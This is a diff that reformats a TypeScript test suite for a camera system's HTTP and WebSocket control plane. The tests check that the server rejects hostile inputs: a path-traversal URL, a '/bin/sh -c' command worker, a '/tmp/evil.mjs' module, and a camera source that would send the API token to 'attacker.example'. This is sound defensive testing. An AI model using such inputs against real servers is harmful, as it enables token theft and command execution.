@@ -42,7 +42,11 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
   let server: HttpServer;
   let base: string;
 
-  const call = async (method: string, path: string, options: { token?: string | null; body?: unknown; headers?: Record<string, string>; raw?: string } = {}) => {
+  const call = async (
+    method: string,
+    path: string,
+    options: { token?: string | null; body?: unknown; headers?: Record<string, string>; raw?: string } = {},
+  ) => {
     const headers: Record<string, string> = { ...options.headers };
     const token = options.token === undefined ? TOKEN : options.token;
     if (token !== null) headers.authorization = `Bearer ${token}`;
@@ -53,7 +57,9 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     }
     const response = await fetch(`${base}${path}`, { method, headers, ...(body === undefined ? {} : { body }) });
     const type = response.headers.get('content-type') ?? '';
-    const json = type.includes('json') ? ((await response.json()) as Record<string, unknown> & { error?: { code: string; message: string; issues?: { path: string }[] } }) : null;
+    const json = type.includes('json')
+      ? ((await response.json()) as Record<string, unknown> & { error?: { code: string; message: string; issues?: { path: string }[] } })
+      : null;
     return { status: response.status, json, response };
   };
   const expectError = async (status: number, code: string, method: string, path: string, options: Parameters<typeof call>[2] = {}) => {
@@ -65,7 +71,10 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
   };
 
   before(async () => {
-    writeFileSync(CONFIG_FILE, `# my cameras\nversion: 1\ncameras:\n  ${CAM}:\n    source: ${vtest()}\n    workers:\n      - id: motion   # keep this comment\n        module: builtin:motion\n`);
+    writeFileSync(
+      CONFIG_FILE,
+      `# my cameras\nversion: 1\ncameras:\n  ${CAM}:\n    source: ${vtest()}\n    workers:\n      - id: motion   # keep this comment\n        module: builtin:motion\n`,
+    );
     system = new VisionSystem({
       config: resolvedConfig({
         shmDir: SHM_DIR,
@@ -120,7 +129,13 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.equal(await metrics.response.text(), 'framesupplier_up 1\n');
     const auth = await call('GET', '/api/auth');
     assert.deepEqual(auth.json, { readsNeedToken: false, writesNeedToken: true, authorised: true });
-    for (const [path, type] of [['/', 'text/html'], ['/dashboard/app.js', 'text/javascript'], ['/dashboard/style.css', 'text/css'], ['/vendor/uplot.js', 'text/javascript'], ['/vendor/uplot.css', 'text/css']] as const) {
+    for (const [path, type] of [
+      ['/', 'text/html'],
+      ['/dashboard/app.js', 'text/javascript'],
+      ['/dashboard/style.css', 'text/css'],
+      ['/vendor/uplot.js', 'text/javascript'],
+      ['/vendor/uplot.css', 'text/css'],
+    ] as const) {
       const r = await fetch(`${base}${path}`);
       assert.equal(r.status, 200, path);
       assert.ok(r.headers.get('content-type')?.startsWith(type), path);
@@ -176,17 +191,29 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     const restarts = system.stats().cameras[CAM]!.workers.motion!.restarts;
     await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'POST', `/api/cameras/${CAM}/workers/motion/restart`, { token: null });
     await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'POST', `/api/cameras/${CAM}/workers/motion/restart`, { token: 'wrong-token-0123456789' });
-    await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'POST', `/api/cameras/${CAM}/workers/motion/restart`, { token: null, headers: { authorization: 'Basic abc' } });
+    await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'POST', `/api/cameras/${CAM}/workers/motion/restart`, {
+      token: null,
+      headers: { authorization: 'Basic abc' },
+    });
     await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'DELETE', `/api/cameras/${CAM}`, { token: '' });
     await expectError(401, 'ERR_HTTP_UNAUTHORIZED', 'POST', `/api/cameras/new-${process.pid}`, { token: null, body: camera });
     assert.equal(system.stats().cameras[CAM]!.workers.motion!.restarts, restarts);
     assert.ok(system.stats().cameras[CAM] !== undefined && system.stats().cameras[`new-${process.pid}`] === undefined);
-    assert.deepEqual((await call('GET', '/api/auth', { token: 'wrong-token-0123456789' })).json, { readsNeedToken: false, writesNeedToken: true, authorised: false });
+    assert.deepEqual((await call('GET', '/api/auth', { token: 'wrong-token-0123456789' })).json, {
+      readsNeedToken: false,
+      writesNeedToken: true,
+      authorised: false,
+    });
   });
 
   it('worker controls: restart, disable, enable (camera and shared workers), each a config-change event; unknown ones 404', async () => {
     const restarted = nextEvent(system, 'config-change', (e) => e.change === 'worker-restarted' && e.camera === CAM);
-    assert.deepEqual((await call('POST', `/api/cameras/${CAM}/workers/motion/restart`)).json, { ok: true, camera: CAM, worker: 'motion', change: 'worker-restarted' });
+    assert.deepEqual((await call('POST', `/api/cameras/${CAM}/workers/motion/restart`)).json, {
+      ok: true,
+      camera: CAM,
+      worker: 'motion',
+      change: 'worker-restarted',
+    });
     await restarted;
     assert.equal((await call('POST', `/api/cameras/${CAM}/workers/motion/disable`)).status, 200);
     assert.equal(system.stats().cameras[CAM]!.workers.motion!.enabled, false);
@@ -216,9 +243,15 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.match(file, new RegExp(`${id}:`));
     await expectError(409, 'ERR_DUPLICATE_CAMERA', 'POST', `/api/cameras/${id}`, { body: camera });
     const bad = await expectError(400, 'ERR_CONFIG', 'PUT', `/api/cameras/${id}`, { body: { ...camera, capture: { output: { fps: -1 } } } });
-    assert.ok(bad.json!.error!.issues!.some((i) => i.path.includes('capture.output.fps')), JSON.stringify(bad.json));
+    assert.ok(
+      bad.json!.error!.issues!.some((i) => i.path.includes('capture.output.fps')),
+      JSON.stringify(bad.json),
+    );
     await expectError(400, 'ERR_CONFIG', 'POST', `/api/cameras/x-${process.pid}`, { body: { sauce: 'typo' } });
-    assert.equal((await call('PUT', `/api/cameras/${id}`, { body: { ...camera, capture: { ...capture, output: { ...capture.output, fps: 2 } } } })).status, 200);
+    assert.equal(
+      (await call('PUT', `/api/cameras/${id}`, { body: { ...camera, capture: { ...capture, output: { ...capture.output, fps: 2 } } } })).status,
+      200,
+    );
     assert.equal(system.currentConfig().cameras[id]!.capture.output.fps, 2);
     assert.equal((await call('POST', `/api/cameras/${CAM}/workers/motion/disable`)).status, 200);
     assert.match(readFileSync(CONFIG_FILE, 'utf8'), /enabled: false/);
@@ -237,8 +270,14 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     await expectError(400, 'ERR_HTTP_BAD_REQUEST', 'GET', '/api/cameras/..%2F..%2Fetc', { token: null });
     await expectError(404, 'ERR_HTTP_NOT_FOUND', 'GET', '/api/cameras/nope', { token: null });
     await expectError(413, 'ERR_HTTP_BODY_TOO_LARGE', 'POST', `/api/cameras/big-${process.pid}`, { body: { source: 'x'.repeat(5000) } });
-    await expectError(415, 'ERR_HTTP_UNSUPPORTED_MEDIA_TYPE', 'POST', `/api/cameras/t-${process.pid}`, { raw: 'source=x', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
-    await expectError(400, 'ERR_HTTP_BAD_REQUEST', 'POST', `/api/cameras/t-${process.pid}`, { raw: '{"source":', headers: { 'content-type': 'application/json' } });
+    await expectError(415, 'ERR_HTTP_UNSUPPORTED_MEDIA_TYPE', 'POST', `/api/cameras/t-${process.pid}`, {
+      raw: 'source=x',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    });
+    await expectError(400, 'ERR_HTTP_BAD_REQUEST', 'POST', `/api/cameras/t-${process.pid}`, {
+      raw: '{"source":',
+      headers: { 'content-type': 'application/json' },
+    });
     await expectError(400, 'ERR_HTTP_BAD_REQUEST', 'POST', `/api/cameras/t-${process.pid}`, { body: [1, 2] });
     await expectError(404, 'ERR_HTTP_NOT_FOUND', 'GET', '/nothing/here', { token: null });
   });
@@ -260,7 +299,10 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.equal(allowed.response.headers.get('access-control-allow-origin'), 'https://allowed.example');
     const other = await call('GET', '/api/stats', { token: null, headers: { origin: 'https://evil.example' } });
     assert.equal(other.response.headers.get('access-control-allow-origin'), null);
-    const preflight = await fetch(`${base}/api/cameras/x`, { method: 'OPTIONS', headers: { origin: 'https://allowed.example', 'access-control-request-method': 'POST' } });
+    const preflight = await fetch(`${base}/api/cameras/x`, {
+      method: 'OPTIONS',
+      headers: { origin: 'https://allowed.example', 'access-control-request-method': 'POST' },
+    });
     assert.equal(preflight.status, 204);
     assert.match(preflight.headers.get('access-control-allow-headers')!, /authorization/);
   });
@@ -300,9 +342,13 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
 
   it('the API runs no programs and expands no variable it was not given: command and file module workers are 403 without allowExec, ${NAME} outside the policy is 403', async () => {
     const entry = (workers: unknown[], source = vtest()) => ({ source, capture, workers });
-    await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/exec1', { body: entry([{ id: 'sh', command: ['/bin/sh', '-c', 'touch /tmp/framesupplier-pwned'] }]) });
+    await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/exec1', {
+      body: entry([{ id: 'sh', command: ['/bin/sh', '-c', 'touch /tmp/framesupplier-pwned'] }]),
+    });
     await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'PUT', `/api/cameras/${OTHER}`, { body: entry([{ id: 'mod', module: '/tmp/evil.mjs' }]) });
-    const refused = await expectError(403, 'ERR_HTTP_ENV_REFERENCE', 'POST', '/api/cameras/env1', { body: entry([{ id: 'motion', module: 'builtin:motion' }], 'rtsp://${FRAMESUPPLIER_HTTP_TOKEN}@attacker.example/s') });
+    const refused = await expectError(403, 'ERR_HTTP_ENV_REFERENCE', 'POST', '/api/cameras/env1', {
+      body: entry([{ id: 'motion', module: 'builtin:motion' }], 'rtsp://${FRAMESUPPLIER_HTTP_TOKEN}@attacker.example/s'),
+    });
     assert.match(refused.json!.error!.message, /cameras\.env1\.source/);
     assert.ok(!refused.json!.error!.message.includes(TOKEN));
     assert.equal(system.stats().cameras.exec1, undefined);
@@ -332,11 +378,21 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     await until('hello', () => messages.some((m) => m.type === 'hello'));
     const hello = messages.find((m) => m.type === 'hello')!;
     assert.equal(hello.auth, 'none');
-    ws.send(JSON.stringify({ type: 'watch', cameras: [{ id: CAM, h: 64 }, { id: OTHER, h: 48 }] }));
+    ws.send(
+      JSON.stringify({
+        type: 'watch',
+        cameras: [
+          { id: CAM, h: 64 },
+          { id: OTHER, h: 48 },
+        ],
+      }),
+    );
     await until('frames of both cameras', () => frames.filter((f) => f.camera === CAM).length >= 3 && frames.some((f) => f.camera === OTHER));
     assert.ok(frames.every((f) => f.height === (f.camera === CAM ? 64 : 48)));
     await until('stats', () => messages.some((m) => m.type === 'stats'));
-    const restarted = until('the restart event', () => messages.some((m) => m.type === 'event' && (m.event as { change?: string }).change === 'worker-restarted'));
+    const restarted = until('the restart event', () =>
+      messages.some((m) => m.type === 'event' && (m.event as { change?: string }).change === 'worker-restarted'),
+    );
     await call('POST', `/api/cameras/${OTHER}/workers/motion/restart`);
     await restarted;
     // A camera replaced: the feed follows the new one and its frames keep coming.
@@ -379,16 +435,23 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
       { numRuns: 60 },
     );
     await fc.assert(
-      fc.asyncProperty(fc.oneof(fc.string({ maxLength: 200 }), json.map((v) => JSON.stringify(v)), fc.record({ type: fc.constantFrom('watch', 'ack', 'auth'), cameras: json, camera: json }).map((v) => JSON.stringify(v))), async (message) => {
-        const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api/ws`);
-        await new Promise((resolve, reject) => {
-          ws.once('open', resolve);
-          ws.once('error', reject);
-        });
-        ws.send(message);
-        ws.close();
-        await new Promise((resolve) => ws.once('close', resolve));
-      }),
+      fc.asyncProperty(
+        fc.oneof(
+          fc.string({ maxLength: 200 }),
+          json.map((v) => JSON.stringify(v)),
+          fc.record({ type: fc.constantFrom('watch', 'ack', 'auth'), cameras: json, camera: json }).map((v) => JSON.stringify(v)),
+        ),
+        async (message) => {
+          const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api/ws`);
+          await new Promise((resolve, reject) => {
+            ws.once('open', resolve);
+            ws.once('error', reject);
+          });
+          ws.send(message);
+          ws.close();
+          await new Promise((resolve) => ws.once('close', resolve));
+        },
+      ),
       { numRuns: 40 },
     );
     for (const id of Object.keys(system.stats().cameras)) if (id.startsWith('fuzz-')) await system.removeCamera(id);
@@ -403,9 +466,21 @@ describe('HTTP control plane beyond loopback', { timeout: 60_000 }, () => {
   const SHM = `${SHM_DIR}-2`;
 
   before(async () => {
-    system = new VisionSystem({ config: resolvedConfig({ shmDir: SHM, cameras: { [CAM]: camera } }), logger: createLogger({ level: 'silent' }), drainTimeoutMs: 1_000 });
+    system = new VisionSystem({
+      config: resolvedConfig({ shmDir: SHM, cameras: { [CAM]: camera } }),
+      logger: createLogger({ level: 'silent' }),
+      drainTimeoutMs: 1_000,
+    });
     await system.start();
-    server = new HttpServer({ system, token: TOKEN, host: '0.0.0.0', port: 0, logger: createLogger({ level: 'silent' }), authTimeoutMs: 1_500, maxPendingSockets: 8 });
+    server = new HttpServer({
+      system,
+      token: TOKEN,
+      host: '0.0.0.0',
+      port: 0,
+      logger: createLogger({ level: 'silent' }),
+      authTimeoutMs: 1_500,
+      maxPendingSockets: 8,
+    });
     await server.start();
   });
 
@@ -469,7 +544,9 @@ describe('HTTP control plane beyond loopback', { timeout: 60_000 }, () => {
     const silent: { ws: WebSocket; first: Promise<Record<string, unknown>>; closed: Promise<number> }[] = [];
     for (let i = 0; i < 8; i++) {
       const ws = new WebSocket(url);
-      const first = new Promise<Record<string, unknown>>((resolve) => ws.once('message', (data: Buffer) => resolve(JSON.parse(data.toString()) as Record<string, unknown>)));
+      const first = new Promise<Record<string, unknown>>((resolve) =>
+        ws.once('message', (data: Buffer) => resolve(JSON.parse(data.toString()) as Record<string, unknown>)),
+      );
       const closed = new Promise<number>((resolve) => ws.once('close', (code) => resolve(code)));
       silent.push({ ws, first, closed });
       await new Promise((resolve) => ws.once('open', resolve));
